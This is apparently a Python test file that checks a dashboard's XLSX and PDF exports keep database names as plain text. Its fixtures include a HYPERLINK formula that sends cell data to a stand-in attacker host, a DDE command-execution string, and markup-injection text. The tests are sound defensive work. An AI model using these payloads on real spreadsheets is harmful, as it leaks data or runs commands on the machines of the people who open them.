"""Hostile text in the dashboard's exports: names from the database are data, never formulas or markup."""

from __future__ import annotations

import io
from datetime import UTC, datetime
from decimal import Decimal

from openpyxl import load_workbook

from console.exports import to_pdf, to_xlsx
from console.metrics import Dashboard, Filters, MoneyFigures, OrderFigures, SmsFigures, TechnicianLoad
from tests.console.test_exports import pdf_text

AT = datetime(2026, 12, 1, 12, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"clique")'
MARKUP = '<font color="red">Zé</font> & <b>'


def board_with(name: str, region: str) -> Dashboard:
    return Dashboard(
        filters=Filters.last_days(7, AT, region=region), at=AT,
        orders=OrderFigures(1, 0, 0, None, None, 0, 0), daily=[],
        technicians=[TechnicianLoad("t1", name, region, 1.0, 50.0, 0)],
        money=MoneyFigures(Decimal("0"), Decimal("0"), Decimal("0"), 0), notifications=[],
        sms=SmsFigures(0, 0, Decimal("0")),
    )


def test_a_technician_named_like_a_formula_stays_text_in_the_workbook() -> None:
    book = load_workbook(io.BytesIO(to_xlsx(board_with(FORMULA, "+cmd|' /C calc'!A0"))))
    name = book["Técnicos"]["A2"]
    assert name.value == FORMULA and name.data_type == "s"
    region = [cell for row in book["Resumo"].iter_rows() for cell in row
              if cell.value == "+cmd|' /C calc'!A0"]
    assert region and all(cell.data_type == "s" for cell in region)


def test_markup_in_a_name_is_printed_not_interpreted_by_the_pdf() -> None:
    pdf = to_pdf(board_with(MARKUP, "<para>"))
    assert pdf.startswith(b"%PDF")
    squeezed = "".join(pdf_text(pdf).split())  # reportlab draws word by word
    assert "".join(MARKUP.split()) in squeezed and "<para>" in squeezed
